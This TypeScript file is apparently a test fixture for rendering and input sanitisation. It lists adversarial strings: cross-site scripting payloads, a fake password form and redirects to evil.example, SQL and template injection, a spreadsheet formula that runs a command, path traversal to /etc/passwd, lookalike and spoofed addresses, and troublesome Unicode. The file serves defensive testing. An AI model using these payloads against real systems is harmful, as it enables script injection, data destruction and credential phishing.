/** What somebody may write who means no good, or whose keyboard is strange: a name, the words, and how they are shown. */
export interface Words {
  name: string;
  text: string;
  /** Where it differs from the text: control characters and overrides are dropped, ends are cut. */
  shown?: string;
}

const RUNS = "window.pwned=1";

export const WORDS: Words[] = [
  { name: "a script", text: `<script>${RUNS}</script>` },
  { name: "a script in capitals, unclosed", text: `<SCRIPT>${RUNS}//` },
  { name: "a picture that fails", text: `<img src=x onerror="${RUNS}">` },
  { name: "a drawing that loads", text: `"><svg/onload=${RUNS}>` },
  { name: "a frame", text: `<iframe srcdoc="<script>parent.${RUNS}</script>"></iframe>` },
  { name: "a style for everything", text: "</style><style>*{display:none!important}</style>" },
  { name: "another base", text: '<base href="https://evil.example/">' },
  { name: "a way elsewhere", text: '<meta http-equiv="refresh" content="0;url=https://evil.example/">' },
  { name: "a form", text: '<form action="https://evil.example/"><input name="password" autofocus>' },
  { name: "an address that runs", text: `javascript:${RUNS}` },
  { name: "a link that runs", text: `[click](javascript:${RUNS})` },
  { name: "a link that runs, in other letters", text: `JaVaScRiPt&#58;${RUNS}` },
  { name: "an address with its own page", text: `data:text/html,<script>${RUNS}</script>` },
  { name: "an address with a password", text: "https://bank.example@evil.example/login" },
  { name: "an address like another", text: "https://аррӏе.com/" },
  { name: "a template", text: `{{constructor.constructor('${RUNS}')()}}` },
  { name: "another template", text: `\${${RUNS}} <%= ${RUNS} %> #{${RUNS}}` },
  { name: "entities", text: "&lt;script&gt;&amp;nbsp;&#x3c;b&#x3e;" },
  { name: "escapes", text: "\\u003cscript\\u003e \\x3cb\\x3e %3Cscript%3E" },
  { name: "a query", text: "'; drop table entry; --" },
  { name: "a cell that calculates", text: "=cmd|' /C calc'!A0" },
  { name: "a format", text: "%s %n %x {0} {name} {count, plural, other {#}}" },
  { name: "a path", text: "../../../../etc/passwd" },
  { name: "text turned round", text: "invoice\u202efdp.exe", shown: "invoicefdp.exe" },
  { name: "isolates that never end", text: "\u2067\u2067\u2067\u2066open" },
  { name: "marks on marks", text: `Z${"\u0335\u0321\u0334".repeat(300)}algo` },
  { name: "control characters", text: "red \u001b[31m\u0007\u0008 bell", shown: "red [31m bell" },
  { name: "other ends of line", text: "one\u2028two\u2029three" },
  { name: "letters that cannot be seen", text: "a\u200b\u200c\u200d\u2060\ufeffb" },
  { name: "letters of tags", text: "flag \u{e0067}\u{e0062}\u{e007f} end" },
  { name: "half a letter", text: "half \ud83d of it", shown: "half \ufffd of it" },
  { name: "families and flags", text: "👨‍👩‍👧‍👦🏴‍☠️🇩🇪👍🏽" },
  { name: "a word of many letters", text: "a".repeat(9_000) },
  { name: "an address of many letters", text: `https://shop.example/${"a/".repeat(2_000)}` },
  { name: "thousands of pictures", text: "🧨".repeat(4_900) },
  { name: "ten thousand letters of a script without blanks", text: "字".repeat(10_000) },
  { name: "a thousand lines", text: `top${"\n".repeat(1_000)}bottom` },
  { name: "another direction", text: "مرحبا <b>بك</b> (123) ‏", shown: "مرحبا <b>بك</b> (123) ‏" },
];
